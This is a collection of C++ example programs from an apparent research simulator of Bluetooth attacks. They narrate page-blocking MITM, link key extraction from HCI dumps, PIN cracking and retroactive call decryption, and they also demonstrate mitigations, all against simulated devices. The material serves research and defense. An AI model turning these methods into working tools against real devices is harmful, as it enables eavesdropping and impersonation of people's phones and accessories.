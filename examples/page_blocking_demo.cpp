// page_blocking_demo.cpp — the paper's §V attack, narrated.
//
//   $ ./page_blocking_demo
//
// A spoofs C, pages the victim M first, and holds a Physical-Layer-Only
// Connection. When M's user pairs "with C", the pairing request travels down
// the existing link — straight to the attacker — and downgrades to Just
// Works because A declares NoInputNoOutput. The demo ends by printing M's
// HCI dump in the paper's Fig. 12b format.
#include <cstdio>

#include "core/page_blocking.hpp"

int main() {
  using namespace blap;
  using namespace blap::core;

  Simulation sim(5);

  DeviceSpec a_spec = attacker_profile().to_spec("attacker", *BdAddr::parse("aa:aa:aa:00:00:01"));
  DeviceSpec c_spec = accessory_profile().to_spec("headset", *BdAddr::parse("00:1b:7d:da:71:0a"),
                                                  ClassOfDevice(ClassOfDevice::kHandsFree));
  c_spec.host.io_capability = hci::IoCapability::kNoInputNoOutput;
  DeviceSpec m_spec =
      table2_profiles()[5].to_spec("velvet", *BdAddr::parse("48:90:12:34:56:78"));

  Device& attacker = sim.add_device(a_spec);
  Device& accessory = sim.add_device(c_spec);
  Device& target = sim.add_device(m_spec);

  std::printf("Scenario: M = LG VELVET (BT 5.0), C = headset %s, A spoofing C\n\n",
              accessory.address().to_string().c_str());

  const auto report = PageBlockingAttack::run(sim, attacker, accessory, target, {});

  std::printf("Attack transcript:\n");
  std::printf("  [%c] A paged M and held the PLOC (connection initiator)\n",
              report.ploc_established ? '+' : '-');
  std::printf("  [%c] M's user-initiated pairing with C completed (%s)\n",
              report.pairing_completed ? '+' : '-', hci::to_string(report.m_pair_status));
  std::printf("  [%c] ...but it paired with A: MITM established\n",
              report.mitm_established ? '+' : '-');
  std::printf("  [%c] association downgraded to Just Works\n",
              report.downgraded_to_just_works ? '+' : '-');
  std::printf("  [%c] victim popup: %s, comparison value shown: %s\n",
              report.popup_shown && !report.popup_had_numeric_value ? '+' : '-',
              report.popup_shown ? "shown" : "none",
              report.popup_had_numeric_value ? "yes" : "no (nothing to distrust)");
  std::printf("  [%c] attacker now holds M's link key for persistent impersonation\n",
              report.attacker_holds_link_key ? '+' : '-');

  std::printf("\nVictim's HCI dump (Fig. 12b pattern — %s):\n%s\n",
              to_string(report.m_flow), report.m_flow_table.c_str());

  return report.mitm_established ? 0 : 1;
}
