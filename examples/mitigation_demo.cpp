// mitigation_demo.cpp — both BLAP attacks with and without the §VII defenses.
//
//   $ ./mitigation_demo
//
// Shows the asymmetry the paper emphasizes: filtering the HCI dump stops the
// software extraction path but is useless against a hardware (USB) tap —
// only encrypting the key in transit between host and controller covers
// both; and the page blocking attack falls to a pure host-side role check.
#include <cstdio>

#include "core/link_key_extraction.hpp"
#include "core/mitigations.hpp"
#include "core/page_blocking.hpp"

namespace {
using namespace blap;
using namespace blap::core;

struct Triple {
  std::unique_ptr<Simulation> sim;
  Device* a;
  Device* c;
  Device* m;
};

Triple make(std::uint64_t seed, bool usb_accessory) {
  Triple t;
  t.sim = std::make_unique<Simulation>(seed);
  DeviceSpec a = attacker_profile().to_spec("attacker", *BdAddr::parse("aa:aa:aa:00:00:01"));
  const DeviceProfile cp = usb_accessory ? table1_profiles()[7] : table1_profiles()[0];
  DeviceSpec c = cp.to_spec("accessory", *BdAddr::parse("00:1b:7d:da:71:0a"),
                            ClassOfDevice(ClassOfDevice::kHandsFree));
  DeviceSpec m = table2_profiles()[5].to_spec("victim", *BdAddr::parse("48:90:12:34:56:78"));
  t.a = &t.sim->add_device(a);
  t.c = &t.sim->add_device(c);
  t.m = &t.sim->add_device(m);
  return t;
}

bool run_extraction(Triple& t, bool usb) {
  LinkKeyExtractionOptions options;
  options.use_usb_sniff = usb;
  options.validate_by_impersonation = false;
  const auto report = LinkKeyExtractionAttack::run(*t.sim, *t.a, *t.c, *t.m, options);
  return report.key_extracted && report.key_matches_bond;
}

bool run_page_blocking(Triple& t) {
  t.c->host().config().io_capability = hci::IoCapability::kNoInputNoOutput;
  const auto report = PageBlockingAttack::run(*t.sim, *t.a, *t.c, *t.m, {});
  return report.mitm_established;
}

void row(const char* label, bool attack_succeeded) {
  std::printf("  %-52s -> %s\n", label, attack_succeeded ? "ATTACK SUCCEEDS" : "defended");
}
}  // namespace

int main() {
  std::printf("Link key extraction via HCI dump:\n");
  {
    Triple t = make(100, false);
    row("no mitigation", run_extraction(t, false));
  }
  {
    Triple t = make(101, false);
    apply_snoop_filter(*t.c, SnoopFilterMode::kHeaderOnly);
    row("snoop filter (log header only)", run_extraction(t, false));
  }
  {
    Triple t = make(102, false);
    apply_snoop_filter(*t.c, SnoopFilterMode::kRandomizeKey);
    row("snoop filter (randomize key bytes)", run_extraction(t, false));
  }

  std::printf("\nLink key extraction via USB hardware sniffing:\n");
  {
    Triple t = make(103, true);
    row("no mitigation", run_extraction(t, true));
  }
  {
    Triple t = make(104, true);
    apply_snoop_filter(*t.c, SnoopFilterMode::kHeaderOnly);
    row("snoop filter — useless against a hardware tap", run_extraction(t, true));
  }
  {
    Triple t = make(105, true);
    apply_hci_payload_encryption(*t.c);
    row("HCI payload encryption (host<->controller)", run_extraction(t, true));
  }

  std::printf("\nPage blocking attack:\n");
  {
    Triple t = make(106, false);
    row("no mitigation", run_page_blocking(t));
  }
  {
    Triple t = make(107, false);
    apply_page_blocking_detection(*t.m);
    row("role + IO-capability check on the victim", run_page_blocking(t));
  }
  return 0;
}
