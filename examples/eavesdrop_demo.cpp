// eavesdrop_demo.cpp — the paper's §IV-C closing claim, end to end:
// "A would be able to decrypt not only the future, but also the past
//  communications of M captured by air-sniffers using the key."
//
//   $ ./eavesdrop_demo
//
// Timeline:
//   day 1 — the victim phone M and its car-kit C hold an encrypted HFP call
//            while a passive air sniffer records everything (ciphertext);
//   day 2 — the attacker runs the link key extraction attack against C and
//            obtains the M<->C link key from C's HCI dump;
//   day 3 — the attacker feeds the recorded capture plus the stolen key to
//            the offline decryptor and reads the call back.
#include <cstdio>
#include <cstring>

#include "core/air_analysis.hpp"
#include "core/link_key_extraction.hpp"
#include "core/profiles.hpp"

int main() {
  using namespace blap;
  using namespace blap::core;

  Simulation sim(777);
  AirSniffer sniffer(sim.medium());

  DeviceSpec a_spec = attacker_profile().to_spec("attacker", *BdAddr::parse("aa:aa:aa:00:00:01"));
  DeviceSpec c_spec = table1_profiles()[0].to_spec("carkit", *BdAddr::parse("00:1b:7d:da:71:0a"),
                                                   ClassOfDevice(ClassOfDevice::kHandsFree));
  DeviceSpec m_spec = table2_profiles()[5].to_spec("velvet", *BdAddr::parse("48:90:12:34:56:78"));
  Device& attacker = sim.add_device(a_spec);
  Device& carkit = sim.add_device(c_spec);
  Device& phone = sim.add_device(m_spec);
  attacker.set_radio_enabled(false);  // not present on day 1

  // --- Day 1: an encrypted call, recorded off the air. ----------------------
  std::printf("[day 1] C and M pair and hold a call; a sniffer records the air...\n");
  bool hfp_up = false;
  carkit.host().connect_hfp(phone.address(), [&](bool ok) { hfp_up = ok; });
  sim.run_for(15 * kSecond);
  if (!hfp_up) {
    std::printf("HFP setup failed\n");
    return 1;
  }
  carkit.host().hfp_send_at(phone.address(), "ATA");
  sim.run_for(200 * kMillisecond);
  const char* lines[] = {"press 1 to confirm the transfer", "authorization code 7-7-3-4",
                         "thank you, goodbye"};
  for (const char* line : lines) {
    carkit.host().hfp_send_audio(
        phone.address(),
        BytesView(reinterpret_cast<const std::uint8_t*>(line), std::strlen(line)));
    sim.run_for(300 * kMillisecond);
  }
  const auto day1_capture = sniffer.frames();
  carkit.host().disconnect(phone.address());
  sim.run_for(2 * kSecond);
  std::printf("        sniffer holds %zu frames — all ACL payloads are E0 ciphertext\n\n",
              day1_capture.size());

  // Show that the recording alone is useless.
  int plaintext_hits = 0;
  for (const auto& frame : day1_capture) {
    const std::string text(frame.frame.begin(), frame.frame.end());
    if (text.find("authorization") != std::string::npos) ++plaintext_hits;
  }
  std::printf("        searching the raw capture for \"authorization\": %d hits (good)\n\n",
              plaintext_hits);

  // --- Day 2: the extraction attack obtains the link key. -------------------
  std::printf("[day 2] the attacker runs the link key extraction attack on C...\n");
  attacker.set_radio_enabled(true);
  LinkKeyExtractionOptions options;
  options.validate_by_impersonation = false;
  const auto report = LinkKeyExtractionAttack::run(sim, attacker, carkit, phone, options);
  if (!report.key_extracted || !report.key_matches_bond) {
    std::printf("extraction failed\n");
    return 1;
  }
  std::printf("        extracted link key %s (C's bond survived: %s)\n\n",
              hex(report.extracted_key).c_str(), report.c_bond_survived ? "yes" : "no");

  // --- Day 3: retroactive decryption of the day-1 recording. ----------------
  std::printf("[day 3] decrypting the day-1 recording with the stolen key...\n");
  const auto decrypted = decrypt_captured_traffic(day1_capture, report.extracted_key);
  if (!decrypted) {
    std::printf("decryption context not found in capture\n");
    return 1;
  }
  bool recovered = false;
  for (const auto& payload : *decrypted) {
    const std::string text(payload.plaintext.begin(), payload.plaintext.end());
    // Surface only the voice frames (the 0xA0-marked HFP audio).
    const auto pos = text.find("press 1");
    const auto pos2 = text.find("authorization");
    const auto pos3 = text.find("thank you");
    if (pos != std::string::npos || pos2 != std::string::npos || pos3 != std::string::npos) {
      recovered = true;
      std::printf("        t=%8llu us  %s: \"%s\"\n",
                  static_cast<unsigned long long>(payload.timestamp_us),
                  payload.sender.to_string().c_str(),
                  text.substr(text.find_first_of("pat")).c_str());
    }
  }
  std::printf("\n%s\n", recovered
                            ? "PAST CALL RECOVERED — forward secrecy of the bond is broken."
                            : "recovery failed");
  return recovered ? 0 : 1;
}
