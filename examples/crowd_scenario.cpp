// crowd_scenario — the BLAP attacker inside a dense radio crowd.
//
// The paper evaluates page blocking in a three-device lab cell. This
// example drops the same A/C/M triple into a population-scale scatternet
// mesh (src/radio/crowd.hpp): thousands of background endpoints holding
// piconet links, a configurable slice of them discoverable, a few running
// periodic inquiry storms. Two effects push on the attack as density grows:
//
//   * medium contention — crowd pages and inquiries interleave with the
//     attacker's on the shared medium Rng stream and scheduler;
//   * co-channel collisions — modelled as iid frame loss scaling with the
//     population (--collision-rate per-device increment, capped at 35 %),
//     which the LMP/pairing traffic must survive through the baseband ARQ.
//
// For each population in the sweep the example runs a Monte-Carlo campaign
// of baseline page-race trials ("without page blocking") and full
// page-blocking attacks, printing the MITM success-rate-vs-density surface
// with Wilson 95% intervals.
//
// Env:
//   BLAP_POPULATION  comma list of crowd sizes  (default 0,100,1000,10000)
//   BLAP_TRIALS      trials per cell            (default 40)
//   BLAP_JOBS        worker threads
//   BLAP_SEED        campaign root seed         (default 1)
//
//   crowd_scenario [--json FILE] [--collision-rate R] [--smoke [N]]
//
// --smoke [N] runs one deterministic mega-crowd pass (default N=100000):
// populate, bring the piconets up, storm, run one full page-blocking
// attack, and report wall time — the CI's "a 100k-device crowd completes"
// gate. Results are bit-identical for any BLAP_JOBS value.
#include <cstdlib>
#include <cstring>
#include <chrono>
#include <fstream>
#include <string>
#include <vector>

#include "bench/bench_util.hpp"
#include "faults/fault_plan.hpp"
#include "radio/crowd.hpp"
#include "snapshot/scenarios.hpp"

namespace {

using namespace blap;

// Crowd seeds must not collide with the scenario's own derived streams.
constexpr std::uint64_t kCrowdSeedSalt = 0xC05D'C05D'C05D'C05DULL;

std::vector<std::size_t> population_axis() {
  std::vector<std::size_t> axis;
  const char* env = std::getenv("BLAP_POPULATION");
  std::string spec = env != nullptr ? env : "0,100,1000,10000";
  std::size_t pos = 0;
  while (pos < spec.size()) {
    const std::size_t comma = spec.find(',', pos);
    const std::string token = spec.substr(pos, comma == std::string::npos ? spec.npos
                                                                          : comma - pos);
    if (!token.empty()) axis.push_back(std::strtoull(token.c_str(), nullptr, 0));
    if (comma == std::string::npos) break;
    pos = comma + 1;
  }
  if (axis.empty()) axis.push_back(0);
  return axis;
}

radio::CrowdConfig crowd_config(std::size_t population, std::uint64_t seed) {
  radio::CrowdConfig config;
  config.population = population;
  config.seed = seed ^ kCrowdSeedSalt;
  return config;
}

double collision_loss(double rate, std::size_t population) {
  const double loss = rate * static_cast<double>(population);
  return loss > 0.35 ? 0.35 : loss;
}

int run_smoke(std::size_t population, double collision_rate) {
  using namespace blap::bench;
  const auto wall_start = std::chrono::steady_clock::now();
  banner("CROWD SMOKE — " + std::to_string(population) + " devices");

  snapshot::ScenarioParams params;
  params.kind = snapshot::ScenarioParams::Kind::kAbc;
  params.table = snapshot::ProfileTable::kTable2;
  params.profile_index = 5;
  params.accessory_transport = core::TransportKind::kUart;
  params.accessory_has_dump = true;
  Scenario s = snapshot::build_scenario(1, params);

  radio::Crowd crowd(s.sim->scheduler(), s.sim->medium(),
                     crowd_config(population, /*seed=*/1));
  crowd.populate();
  s.sim->run_for(3 * radio::CrowdConfig{}.page_scan_interval);
  crowd.start(s.sim->now() + 30 * kSecond);

  const double loss = collision_loss(collision_rate, population);
  if (loss > 0.0) {
    faults::FaultPlan plan;
    plan.seed = 1;
    plan.loss = loss;
    s.sim->set_fault_plan(plan);
  }
  const auto report =
      core::PageBlockingAttack::run(*s.sim, *s.attacker, *s.accessory, *s.target, {});
  const double wall_s =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - wall_start).count();

  const auto& stats = crowd.stats();
  std::printf("population            %zu (attached: %zu endpoints on medium)\n",
              crowd.population(), s.sim->medium().endpoint_count());
  std::printf("piconet links up      %zu (%zu page(s) failed)\n", stats.links_established,
              stats.pages_failed);
  std::printf("inquiry storms        %zu started, %zu responses heard\n",
              stats.inquiries_started, stats.inquiry_responses_heard);
  std::printf("collision loss        %.1f%%\n", 100.0 * loss);
  std::printf("attack                ploc=%d pairing=%d mitm=%d\n", report.ploc_established,
              report.pairing_completed, report.mitm_established);
  std::printf("virtual time          %.1f s, wall %.2f s\n",
              static_cast<double>(s.sim->now()) * 1e-6, wall_s);

  if (stats.links_established == 0 || stats.inquiries_started == 0) {
    std::fprintf(stderr, "error: crowd failed to form (no links or no storms)\n");
    return 1;
  }
  if (!report.ploc_established) {
    std::fprintf(stderr, "error: attacker's page never landed through the crowd\n");
    return 1;
  }
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  using namespace blap::bench;

  const char* json_path = nullptr;
  double collision_rate = 2e-5;
  bool smoke = false;
  std::size_t smoke_population = 100'000;
  for (int i = 1; i < argc; ++i) {
    if (std::strcmp(argv[i], "--json") == 0 && i + 1 < argc) json_path = argv[++i];
    else if (std::strcmp(argv[i], "--collision-rate") == 0 && i + 1 < argc)
      collision_rate = std::strtod(argv[++i], nullptr);
    else if (std::strcmp(argv[i], "--smoke") == 0) {
      smoke = true;
      if (i + 1 < argc && argv[i + 1][0] != '-')
        smoke_population = std::strtoull(argv[++i], nullptr, 0);
    } else {
      std::fprintf(stderr, "usage: %s [--json FILE] [--collision-rate R] [--smoke [N]]\n",
                   argv[0]);
      return 2;
    }
  }
  if (const char* env = std::getenv("BLAP_POPULATION"); smoke && env != nullptr)
    smoke_population = std::strtoull(env, nullptr, 0);
  if (smoke) return run_smoke(smoke_population, collision_rate);

  const std::size_t trials = static_cast<std::size_t>(trial_count(40));
  std::uint64_t root = 1;
  if (const char* env = std::getenv("BLAP_SEED")) root = std::strtoull(env, nullptr, 0);
  const auto axis = population_axis();

  banner("CROWD SCENARIO — MITM success vs crowd density (" + std::to_string(trials) +
         " trials/cell)");
  std::printf("%-12s | %-7s | %-28s | %-28s\n", "", "", "without page blocking",
              "with page blocking");
  std::printf("%-12s | %-7s | %-9s %-18s | %-9s %-18s\n", "population", "loss", "rate",
              "wilson95", "rate", "wilson95");
  std::printf("%s\n", std::string(92, '-').c_str());

  snapshot::ScenarioParams params;
  params.kind = snapshot::ScenarioParams::Kind::kAbc;
  params.table = snapshot::ProfileTable::kTable2;
  params.profile_index = 5;
  params.accessory_transport = core::TransportKind::kUart;
  params.accessory_has_dump = true;
  params.baseline_bias = core::table2_profiles()[5].baseline_mitm_success;

  std::string json_all;
  std::size_t cell = 0;
  for (const std::size_t population : axis) {
    const double loss = collision_loss(collision_rate, population);
    auto run_cell = [&](const char* kind, bool with_blocking) {
      campaign::CampaignConfig cfg;
      cfg.label = "crowd N=" + std::to_string(population) + " " + kind;
      cfg.trials = trials;
      cfg.root_seed = campaign::trial_seed(root, cell++);
      return campaign::run_campaign(cfg, [&](const campaign::TrialSpec& spec) {
        Scenario s = snapshot::build_scenario(spec.seed, params);
        radio::Crowd crowd(s.sim->scheduler(), s.sim->medium(),
                           crowd_config(population, spec.seed));
        crowd.populate();
        s.sim->run_for(3 * radio::CrowdConfig{}.page_scan_interval);
        crowd.start(s.sim->now() + 60 * kSecond);
        if (loss > 0.0) {
          faults::FaultPlan plan;
          plan.seed = spec.seed;
          plan.loss = loss;
          s.sim->set_fault_plan(plan);
        }
        campaign::TrialResult r;
        if (with_blocking) {
          const auto report = core::PageBlockingAttack::run(*s.sim, *s.attacker,
                                                            *s.accessory, *s.target, {});
          r.success = report.mitm_established;
        } else {
          r.success = core::PageBlockingAttack::baseline_trial(*s.sim, *s.attacker,
                                                               *s.accessory, *s.target);
        }
        r.virtual_end = s.sim->now();
        return r;
      });
    };
    const auto baseline = run_cell("baseline", false);
    const auto attack = run_cell("page blocking", true);
    std::printf("%-12zu | %5.1f%% | %7.1f%%  [%5.1f%%, %5.1f%%]  | %7.1f%%  [%5.1f%%, %5.1f%%]\n",
                population, 100.0 * loss, 100.0 * baseline.success_rate,
                100.0 * baseline.ci.low, 100.0 * baseline.ci.high,
                100.0 * attack.success_rate, 100.0 * attack.ci.low,
                100.0 * attack.ci.high);
    json_all += baseline.to_json();
    json_all += attack.to_json();
  }

  if (json_path != nullptr) {
    std::ofstream out(json_path);
    out << json_all;
    out.flush();
    if (!out) {
      std::fprintf(stderr, "error: could not write %s\n", json_path);
      return 1;
    }
    std::printf("\nsurface JSON -> %s\n", json_path);
  }
  return 0;
}
