// chaos_sweep — systematic failpoint exploration of the bonded cell.
//
// Runs the three-phase chaos sweep (src/chaos/chaos_campaign.hpp): recorder
// baseline over the bonded-cell scenario, enumeration of every reachable
// (site, ordinal) failpoint instance, then one exploration trial per
// instance asserting the cross-layer invariants hold and the cell either
// completes or tears down clean. Exit code 1 when any trial ended in
// violation or stuck — the CI smoke job runs this twice (BLAP_JOBS=1 and 8)
// and additionally diffs the --json reports byte-for-byte.
//
// Usage:
//   chaos_sweep [--json] [--pairs] [--cap N] [--seed N] [--record-dir DIR]
//
//   --json        print the deterministic report JSON instead of the table
//   --pairs       add the bounded two-fault pair sample
//   --cap N       per-site ordinal cap (default 24)
//   --seed N      build/trial seed (default 10000)
//   --record-dir  write violation/stuck .blapreplay bundles here
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

#include "src/chaos/chaos_campaign.hpp"

int main(int argc, char** argv) {
  using namespace blap;

  campaign::ChaosCampaignConfig config;
  bool json = false;
  for (int i = 1; i < argc; ++i) {
    const char* arg = argv[i];
    if (std::strcmp(arg, "--json") == 0) {
      json = true;
    } else if (std::strcmp(arg, "--pairs") == 0) {
      config.pairs = true;
    } else if (std::strcmp(arg, "--cap") == 0 && i + 1 < argc) {
      config.ordinal_cap = std::strtoull(argv[++i], nullptr, 10);
    } else if (std::strcmp(arg, "--seed") == 0 && i + 1 < argc) {
      config.seed = std::strtoull(argv[++i], nullptr, 10);
    } else if (std::strcmp(arg, "--record-dir") == 0 && i + 1 < argc) {
      config.record_dir = argv[++i];
    } else {
      std::fprintf(stderr, "unknown argument: %s\n", arg);
      return 2;
    }
  }

  const auto report = campaign::run_chaos_campaign(config);
  if (!report.explored) {
    std::fprintf(stderr, "chaos sweep could not capture the bonded warm point: %s\n",
                 report.fallback_reason.c_str());
    return 2;
  }

  if (json) {
    std::fputs(report.to_json().c_str(), stdout);
  } else {
    std::printf("chaos sweep: %zu sites, %zu single-fault instances, %zu pairs\n",
                report.sites, report.singles, report.pair_trials);
    std::printf("baseline: %s (%llu failpoint passages)\n",
                snapshot::to_string(report.baseline.outcome),
                static_cast<unsigned long long>(report.baseline.total_hits));
    std::printf("outcomes: %zu completed, %zu recovered, %zu clean-error, "
                "%zu stuck, %zu violation\n",
                report.completed, report.recovered, report.clean_errors, report.stuck,
                report.violations);
    for (const auto& rec : report.trials) {
      if (rec.outcome != snapshot::ChaosOutcome::kViolation &&
          rec.outcome != snapshot::ChaosOutcome::kStuck)
        continue;
      std::printf("  FINDING %s: %s\n", chaos::encode_fault_sites(rec.faults).c_str(),
                  snapshot::to_string(rec.outcome));
      for (const auto& v : rec.violations)
        std::printf("    %s: %s\n", v.invariant.c_str(), v.detail.c_str());
    }
    for (const auto& path : report.bundle_paths)
      std::printf("  pinned %s\n", path.c_str());
  }

  const bool clean = report.violations == 0 && report.stuck == 0 &&
                     report.baseline.outcome == snapshot::ChaosOutcome::kCompleted;
  return clean ? 0 : 1;
}
