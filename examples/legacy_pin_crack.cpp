// legacy_pin_crack.cpp — why SSP exists: cracking a sniffed legacy pairing.
//
//   $ ./legacy_pin_crack [pin]
//
// The paper's background (§II-C1) notes legacy PIN pairing was "recognized
// as vulnerable to diverse attacks" (refs [14] btpincrack, [15] Shaked-Wool)
// — this demo reproduces that attack on the simulator: a passive air sniffer
// records one legacy pairing + authentication, and an offline brute force
// recovers both the PIN and the link key in milliseconds. Afterwards, the
// same sniffer's ciphertext is decrypted retroactively with the cracked key
// (the §IV-C "past communications" capability).
#include <chrono>
#include <cstdio>
#include <string>

#include "core/air_analysis.hpp"
#include "core/device.hpp"

int main(int argc, char** argv) {
  using namespace blap;
  using namespace blap::core;

  const std::string pin = argc > 1 ? argv[1] : "8461";
  if (pin.size() > 6) {
    std::fprintf(stderr, "demo supports PINs of up to 6 digits\n");
    return 2;
  }

  Simulation sim(99);
  AirSniffer sniffer(sim.medium());

  DeviceSpec phone;
  phone.name = "old-phone";
  phone.address = *BdAddr::parse("00:0d:11:22:33:44");
  phone.host.simple_pairing = false;  // pre-2.1 stack: legacy pairing only
  phone.host.pin_code = pin;
  DeviceSpec headset = phone;
  headset.name = "old-headset";
  headset.address = *BdAddr::parse("00:0d:55:66:77:88");
  headset.class_of_device = ClassOfDevice(ClassOfDevice::kHandsFree);

  Device& m = sim.add_device(phone);
  Device& c = sim.add_device(headset);

  std::printf("Victims pair with PIN \"%s\" while a passive sniffer listens...\n", pin.c_str());
  bool done = false;
  m.host().pair(c.address(), [&](hci::Status status) {
    done = status == hci::Status::kSuccess;
  });
  sim.run_for(20 * kSecond);
  if (!done) {
    std::printf("pairing failed\n");
    return 1;
  }
  bool echoed = false;
  m.host().send_echo(c.address(), [&] { echoed = true; });
  sim.run_for(kSecond);

  std::printf("Sniffer captured %zu air frames.\n\n", sniffer.frames().size());

  auto capture = parse_legacy_pairing(sniffer.frames());
  if (!capture) {
    std::printf("no legacy pairing found in the capture\n");
    return 1;
  }
  std::printf("Reconstructed pairing transcript:\n");
  std::printf("  IN_RAND        : %s\n", hex(capture->in_rand).c_str());
  std::printf("  comb (init)    : %s\n", hex(capture->masked_comb_initiator).c_str());
  std::printf("  comb (resp)    : %s\n", hex(capture->masked_comb_responder).c_str());
  std::printf("  AU_RAND / SRES : %s / %s\n\n", hex(capture->au_rand).c_str(),
              hex(capture->sres).c_str());

  const auto start = std::chrono::steady_clock::now();
  const auto result = crack_pin(*capture, 6);
  const auto elapsed = std::chrono::duration_cast<std::chrono::milliseconds>(
                           std::chrono::steady_clock::now() - start)
                           .count();
  if (!result.found) {
    std::printf("PIN not found within 6 digits\n");
    return 1;
  }
  std::printf("CRACKED in %lld ms after %llu guesses:\n", static_cast<long long>(elapsed),
              static_cast<unsigned long long>(result.attempts));
  std::printf("  PIN      = %s\n", result.pin.c_str());
  std::printf("  link key = %s\n", hex(result.link_key).c_str());
  std::printf("  (matches the victims' bond: %s)\n\n",
              result.link_key == *m.host().security().link_key_for(c.address()) ? "yes" : "no");

  const auto decrypted = decrypt_captured_traffic(sniffer.frames(), result.link_key);
  if (decrypted && echoed) {
    std::printf("Retroactive decryption of the recorded ciphertext (%zu payloads):\n",
                decrypted->size());
    for (const auto& payload : *decrypted) {
      std::printf("  t=%8llu us  %s  %s\n",
                  static_cast<unsigned long long>(payload.timestamp_us),
                  payload.sender.to_string().c_str(), hex_pretty(payload.plaintext).c_str());
    }
  }
  return 0;
}
