// campaign_sweep — production-scale Table II sweep on the campaign engine.
//
// Runs the full "without / with page blocking" Monte-Carlo sweep for all
// seven Table II victims across a worker pool, then prints per-cell success
// rates with Wilson 95% confidence intervals and a throughput report.
//
//   BLAP_TRIALS  trials per cell            (default 100, the paper's count)
//   BLAP_JOBS    worker threads             (default: all hardware threads)
//   BLAP_SEED    campaign root seed         (default 1)
//
//   campaign_sweep [--json FILE] [--csv FILE] [--metrics] [--trace-out FILE]
//                  [--record-failures DIR]
//   campaign_sweep --snoop-dir DIR [--snoop-files N]
//
// --snoop-dir switches the binary into corpus mode: instead of the Table II
// sweep it runs one campaign per snoop-corpus scenario class (see
// src/analytics/corpus.hpp) and writes N labelled .btsnoop captures per
// class plus labels.jsonl into DIR — the ground-truth input for blap-snoopd
// precision/recall scoring. BLAP_SEED/BLAP_JOBS apply as in sweep mode.
//
// --metrics runs every trial's Simulation with the metrics half of the
// observability layer on and folds the per-trial snapshots into each cell's
// JSON ("metrics" block). --trace-out additionally runs ONE fully-traced
// page blocking trial (first Table II victim, trial seed 0) and writes its
// Chrome trace-event JSON — load it in Perfetto to see the attacker and
// victim lanes race.
//
// --record-failures DIR writes a self-contained replay bundle (see
// src/snapshot/replay.hpp) for every failing trial — up to 8 per cell, into
// DIR/<cell>/trial-NNNNNN.blapreplay — reproducible standalone with
// blap-replay. Recording runs the cells through the snapshot-fork engine;
// so does BLAP_SNAPSHOT_FORK=1 without recording. Either way the output is
// byte-identical to the rebuild path (the CI diffs it).
//
// Results are bit-identical for any BLAP_JOBS value and any re-run with the
// same BLAP_TRIALS/BLAP_SEED: per-trial seeds are SplitMix64-derived from
// (root seed, cell, trial index), wall-clock never leaks into the
// deterministic emits, and metrics snapshots merge order-independently.
#include <cstring>
#include <fstream>
#include <string>

#include "analytics/corpus.hpp"
#include "bench/bench_util.hpp"
#include "snapshot/fork_campaign.hpp"

int main(int argc, char** argv) {
  using namespace blap;
  using namespace blap::bench;
  using namespace blap::core;

  const char* json_path = nullptr;
  const char* csv_path = nullptr;
  const char* trace_path = nullptr;
  const char* record_dir = nullptr;
  const char* snoop_dir = nullptr;
  std::size_t snoop_files = 8;
  bool with_metrics = false;
  for (int i = 1; i < argc; ++i) {
    if (std::strcmp(argv[i], "--json") == 0 && i + 1 < argc) json_path = argv[++i];
    else if (std::strcmp(argv[i], "--csv") == 0 && i + 1 < argc) csv_path = argv[++i];
    else if (std::strcmp(argv[i], "--trace-out") == 0 && i + 1 < argc) trace_path = argv[++i];
    else if (std::strcmp(argv[i], "--record-failures") == 0 && i + 1 < argc)
      record_dir = argv[++i];
    else if (std::strcmp(argv[i], "--snoop-dir") == 0 && i + 1 < argc) snoop_dir = argv[++i];
    else if (std::strcmp(argv[i], "--snoop-files") == 0 && i + 1 < argc)
      snoop_files = std::strtoull(argv[++i], nullptr, 10);
    else if (std::strcmp(argv[i], "--metrics") == 0) with_metrics = true;
    else {
      std::fprintf(stderr,
                   "usage: %s [--json FILE] [--csv FILE] [--metrics] [--trace-out FILE] "
                   "[--record-failures DIR]\n"
                   "       %s --snoop-dir DIR [--snoop-files N]\n",
                   argv[0], argv[0]);
      return 2;
    }
  }

  if (snoop_dir != nullptr) {
    analytics::CorpusOptions opts;
    opts.dir = snoop_dir;
    opts.files_per_class = snoop_files;
    if (const char* env = std::getenv("BLAP_SEED"))
      opts.root_seed = std::strtoull(env, nullptr, 0);
    banner("CAMPAIGN — labelled snoop corpus (" + std::to_string(snoop_files) +
           " files/class)");
    const auto summary = analytics::generate_corpus(opts);
    if (!summary) {
      std::fprintf(stderr, "error: corpus generation failed under %s\n", snoop_dir);
      return 1;
    }
    std::printf("%-18s | %s\n", "class", "files");
    std::printf("%s\n", std::string(28, '-').c_str());
    for (const auto& [name, count] : summary->files_per_class)
      std::printf("%-18s | %zu\n", name.c_str(), count);
    std::printf("\n%-18s | %s\n", "label", "files");
    std::printf("%s\n", std::string(28, '-').c_str());
    for (const auto& [name, count] : summary->files_per_label)
      std::printf("%-18s | %zu\n", name.c_str(), count);
    std::printf("\n%zu capture(s) + labels.jsonl -> %s (%zu voided trial(s))\n",
                summary->files_written, snoop_dir, summary->trials_failed);
    return 0;
  }
  // Recording needs the fork engine's warm snapshot; BLAP_SNAPSHOT_FORK=1
  // opts into it without recording.
  const bool use_fork = record_dir != nullptr || snapshot::fork_mode_enabled();

  const std::size_t trials = static_cast<std::size_t>(trial_count(100));
  std::uint64_t root = 1;
  if (const char* env = std::getenv("BLAP_SEED")) root = std::strtoull(env, nullptr, 0);
  const unsigned jobs = campaign::resolve_jobs();

  banner("CAMPAIGN — Table II sweep (" + std::to_string(trials) + " trials/cell, " +
         std::to_string(jobs) + " workers)");
  std::printf("%-26s | %-28s | %-28s\n", "", "without page blocking", "with page blocking");
  std::printf("%-26s | %-9s %-18s | %-9s %-18s\n", "Device", "rate", "wilson95", "rate",
              "wilson95");
  std::printf("%s\n", std::string(90, '-').c_str());

  std::string json_all;
  std::string csv_all;
  double wall_s = 0.0;
  std::size_t cell = 0;
  unsigned jobs_used = 1;
  std::size_t bundles_written = 0;
  const auto& profiles = table2_profiles();
  for (std::size_t profile_index = 0; profile_index < profiles.size(); ++profile_index) {
    const auto& profile = profiles[profile_index];
    auto run_cell = [&](const std::string& kind, bool with_blocking) {
      campaign::CampaignConfig cfg;
      cfg.label = profile.model + " " + kind;
      cfg.trials = trials;
      // Distinct root per cell, derived from the sweep root: cells never
      // share trial seeds, and any cell can be re-run in isolation.
      cfg.root_seed = campaign::trial_seed(root, cell++);

      snapshot::ScenarioParams params;
